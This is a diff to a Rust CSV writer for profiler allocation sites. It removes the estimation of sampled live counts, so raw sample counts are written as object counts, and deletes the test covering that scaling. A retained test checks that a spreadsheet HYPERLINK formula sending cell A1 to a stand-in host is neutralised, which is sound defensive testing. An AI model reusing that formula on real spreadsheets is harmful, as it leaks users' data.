@@ -18,9 +18,8 @@ pub const HEADER: [&str; 8] = [
     "allocations",
 ];
 
-/// Writes the rows; `live_counts_sampled`: the live counts are counts of samples (a sampled
-/// capture, not aggregated), written as estimates of objects ([`super::live_objects`]).
-pub fn write(sites: &Sites, live_counts_sampled: bool, out: &mut dyn Write) -> io::Result<()> {
+/// Writes the rows.
+pub fn write(sites: &Sites, out: &mut dyn Write) -> io::Result<()> {
     let mut by_location: HashMap<Location, (Sum, Sum)> = HashMap::new();
     for s in &sites.list {
         let key = sites
@@ -41,7 +40,7 @@ pub fn write(sites: &Sites, live_counts_sampled: bool, out: &mut dyn Write) -> i
     w.write_record(HEADER).map_err(io_error)?;
     for (l, (live, allocated)) in rows {
         let line = l.line.map(|n| n.to_string()).unwrap_or_default();
-        let live_count = super::live_objects(&allocated, &live, live_counts_sampled);
+        let live_count = live.count;
         w.write_record([
             inert(&l.label).as_ref(),
             inert(l.function.as_deref().unwrap_or("")).as_ref(),
@@ -125,7 +124,7 @@ mod tests {
             },
         ];
         let mut out = Vec::new();
-        write(&sites.into_iter().collect(), false, &mut out).expect("write");
+        write(&sites.into_iter().collect(), &mut out).expect("write");
         let mut r = ::csv::Reader::from_reader(out.as_slice());
         assert_eq!(
             r.headers().expect("header").iter().collect::<Vec<_>>(),
@@ -162,7 +161,7 @@ mod tests {
             live: Sum { count: 1, bytes: 9 },
         };
         let mut out = Vec::new();
-        write(&[site].into_iter().collect(), false, &mut out).expect("write");
+        write(&[site].into_iter().collect(), &mut out).expect("write");
         let mut r = ::csv::Reader::from_reader(out.as_slice());
         let row = r.records().next().expect("a row").expect("row");
         assert_eq!(&row[0], "'=HYPERLINK(\"http://x/?\"&A1) at @f.py:2");
@@ -171,26 +170,5 @@ mod tests {
         // Other names as they are.
         assert_eq!(inert("f"), "f");
         assert_eq!(inert("<module>"), "<module>");
-    }
-
-    #[test]
-    fn sampled_live_counts_are_estimates_of_objects() {
-        // 75 samples holding 75 MB of 1,000-byte allocations: 75,000 objects, not 75.
-        let site = Site {
-            frames: vec![loc("many", "m.py", 4)],
-            allocated: Sum {
-                count: 100_000,
-                bytes: 100_000_000,
-            },
-            live: Sum {
-                count: 75,
-                bytes: 75_000_000,
-            },
-        };
-        let mut out = Vec::new();
-        write(&[site].into_iter().collect(), true, &mut out).expect("write");
-        let mut r = ::csv::Reader::from_reader(out.as_slice());
-        let row = r.records().next().expect("a row").expect("row");
-        assert_eq!(&row[5], "75000");
     }
 }
